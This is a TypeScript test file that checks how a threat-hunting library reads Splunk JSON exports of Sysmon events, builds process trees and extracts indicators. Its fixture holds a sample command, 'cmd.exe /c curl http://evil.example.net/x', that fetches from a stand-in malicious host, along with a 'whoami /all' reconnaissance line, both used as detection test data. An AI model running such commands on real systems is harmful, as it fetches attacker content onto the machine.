/**
 * Splunk's JSON export saved as a file (Splunk Web's Export → JSON, or the REST export endpoint piped to a file):
 * one `{"preview":false,"offset":N,"result":{…}}` line per result. It was read as JSON lines whose one useful
 * column was a `result` struct (beside `preview`, `offset`, `lastrow`): no cell found `_time`, `host` or the
 * command line. Now the results are the rows, typed as the live Splunk provider types an answer.
 */
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { describe, it } from "node:test";
import "../../src/index";
import { readDataFile } from "../../src/data/readers";
import { QueryProvider } from "../../src/data/queryProvider";
import { buildProcessTree, IoCExtract } from "../../src/index";
import { tempDir } from "../helpers/tmp";

/** Sysmon 1 events as Splunk's Windows add-on shows them: every value text, a multivalue field a list. */
const RESULTS = [
  { _time: "2026-12-07T09:15:03.250+01:00", host: "ws-7", EventCode: "1", Image: "C:\\Windows\\System32\\cmd.exe", ProcessId: "4100", ParentProcessId: "812", ParentImage: "C:\\Windows\\explorer.exe", CommandLine: "cmd.exe /c curl http://evil.example.net/x", UtcTime: "2026-12-07 08:15:03.250", dest_ip: ["10.0.0.5", "10.0.0.6"], _raw: "<Event>…</Event>" },
  { _time: "2026-12-07T09:15:04.000+01:00", host: "ws-7", EventCode: "1", Image: "C:\\Windows\\System32\\whoami.exe", ProcessId: "4120", ParentProcessId: "4100", ParentImage: "C:\\Windows\\System32\\cmd.exe", CommandLine: "whoami /all", UtcTime: "2026-12-07 08:15:04.000", dest_ip: "10.0.0.7", _raw: "<Event>…</Event>" },
];

/** The export's lines as Splunk writes them: `offset` counting, `lastrow` on the last. */
function exportLines(results: readonly object[], extra: { preview?: boolean; before?: string[]; after?: string } = {}): string {
  const lines = results.map((r, i) => JSON.stringify({ preview: extra.preview ?? false, offset: i, ...(i === results.length - 1 ? { lastrow: true } : {}), result: r }));
  return [...(extra.before ?? []), ...lines].join("\n") + "\n" + (extra.after ?? "");
}

function read(name: string, text: string) {
  const file = path.join(tempDir(), name);
  fs.writeFileSync(file, text);
  const warnings: string[] = [];
  return { df: readDataFile(file, { warn: (m) => warnings.push(m) }), warnings, file };
}

describe("readDataFile: Splunk's JSON export", () => {
  it("the results are the rows, typed as a live answer (_time in UTC, whole numbers, a multivalue field as JSON text)", () => {
    for (const name of ["splunk.json", "splunk.ndjson", "splunk.jsonl"]) {
      const { df, warnings } = read(name, exportLines(RESULTS));
      assert.deepEqual(warnings, [], name);
      assert.deepEqual(df.columns, ["_time", "host", "EventCode", "Image", "ProcessId", "ParentProcessId", "ParentImage", "CommandLine", "UtcTime", "dest_ip", "_raw"], name);
      assert.equal(df.height, 2);
      assert.equal(df.getColumn("_time").dtype.variant, "Datetime");
      assert.deepEqual(
        (df.getColumn("_time").toArray() as unknown[]).map((d) => (d as Date).toISOString()),
        ["2026-12-07T08:15:03.250Z", "2026-12-07T08:15:04.000Z"],
      );
      assert.deepEqual(df.getColumn("ProcessId").toArray(), [4100, 4120]);
      assert.equal(df.getColumn("ProcessId").dtype.variant, "Int64");
      assert.deepEqual(df.getColumn("dest_ip").toArray(), ['["10.0.0.5","10.0.0.6"]', '"10.0.0.7"']);
    }
  });

  it("a process tree builds and indicators are found on it, as on the live provider's frame", () => {
    const { df } = read("sysmon.json", exportLines(RESULTS));
    const tree = buildProcessTree(df);
    const levels = Object.fromEntries(tree.select("CommandLine", "Level").rows().map(([cmd, level]) => [String(cmd), level]));
    // explorer.exe, the parent no row describes, is the root.
    assert.deepEqual(levels, { null: 1, "cmd.exe /c curl http://evil.example.net/x": 2, "whoami /all": 3 });
    const iocs = new IoCExtract().extract(df, { columns: ["CommandLine"], iocTypes: ["url"], urlHostAsDns: false });
    assert.deepEqual(iocs.getColumn("Observable").toArray(), ["http://evil.example.net/x"]);
  });

  it("a byte-order mark and CRLF line ends are read past", () => {
    const { df } = read("bom.json", "\uFEFF" + exportLines(RESULTS).replaceAll("\n", "\r\n"));
    assert.equal(df.height, 2);
    assert.equal(df.getColumn("host").toArray()[1], "ws-7");
  });

  it("the search's messages are one warning naming the file; the results are read", () => {
    const caps = JSON.stringify({ preview: false, messages: [{ type: "WARN", text: "Search results might be incomplete: the search reached the max_count limit" }] });
    const { df, warnings, file } = read("capped.json", exportLines(RESULTS, { before: [caps] }));
    assert.equal(df.height, 2);
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.ok(warnings[0].includes(file) && warnings[0].includes("max_count limit") && warnings[0].includes("incomplete"), warnings[0]);
  });

  it("a first line of messages alone ({\"messages\":[…]}, no preview field) is the export's: its results are read and its messages said", () => {
    const caps = JSON.stringify({ messages: [{ type: "WARN", text: "Search results might be incomplete: the search reached the max_count limit" }] });
    const { df, warnings, file } = read("capped-first.json", exportLines(RESULTS, { before: [caps] }));
    assert.equal(df.height, 2);
    assert.ok(!df.columns.includes("messages") && df.columns.includes("host"), df.columns.join(", "));
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.ok(warnings[0].includes(file) && warnings[0].includes("max_count limit"), warnings[0]);
    // Messages alone (a search that failed before any result): no rows, the messages said.
    const alone = read("failed.ndjson", JSON.stringify({ messages: [{ type: "ERROR", text: "Unknown search command 'foo'" }] }) + "\n");
    assert.equal(alone.df.height, 0);
    assert.equal(alone.warnings.length, 1, alone.warnings.join("\n"));
    assert.ok(alone.warnings[0].includes("Unknown search command"), alone.warnings[0]);
  });

  it("a cut last line is skipped with a warning naming the file and line; the complete lines are read", () => {
    const { df, warnings, file } = read("cut.json", exportLines(RESULTS) + '{"preview":false,"offset":2,"result":{"_time":"2026-12-07T09:');
    assert.equal(df.height, 2);
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.ok(warnings[0].includes(file) && warnings[0].includes("line 3") && warnings[0].includes("2 result(s)"), warnings[0]);
  });

  it("preview lines only (a search saved before it finished): the latest preview is read and said", () => {
    const { df, warnings } = read("preview.json", exportLines(RESULTS, { preview: true }));
    assert.equal(df.height, 2);
    assert.equal(warnings.length, 1);
    assert.match(warnings[0], /preview results only/);
  });

  it("empty preview tables only (a reporting search saved before it finished, nothing found yet): no rows, and said", () => {
    const { df, warnings } = read("preview-empty.json", '{"preview":true,"offset":0,"lastrow":true}\n{"preview":true,"offset":0,"lastrow":true}\n');
    assert.equal(df.height, 0);
    assert.equal(warnings.length, 1, warnings.join("\n"));
    assert.match(warnings[0], /preview results only.*latest preview's 0 row\(s\)/);
  });

  it("an export of a search with no results (its one line the last row's marker, no result) is no rows, not that line as a row", () => {
    for (const name of ["none.json", "none.ndjson"]) {
      const { df, warnings } = read(name, '{"preview":false,"offset":0,"lastrow":true}\n');
      assert.equal(df.height, 0, name);
      assert.ok(!df.columns.includes("lastrow"), `${name}: ${df.columns.join(", ")}`);
      assert.deepEqual(warnings, [], name);
    }
  });

  it("JSON lines that merely have a preview field are read as they are", () => {
    const { df } = read("events.ndjson", '{"preview":true,"name":"a"}\n{"preview":false,"name":"b"}\n');
    assert.deepEqual(df.columns, ["preview", "name"]);
    assert.equal(df.height, 2);
  });

  it("a query over a folder: the export is a query, and start/end filter on _time", async () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, "splunk_sysmon.json"), exportLines(RESULTS));
    const qp = new QueryProvider("LocalData", { dataPaths: [dir] });
    const rows = await qp.execQuery("LocalData.splunk_sysmon", { start: "2026-12-07T08:15:03.500Z", end: "2026-12-07T09:00:00Z" });
    assert.deepEqual(rows.getColumn("ProcessId").toArray(), [4120]);
  });
});
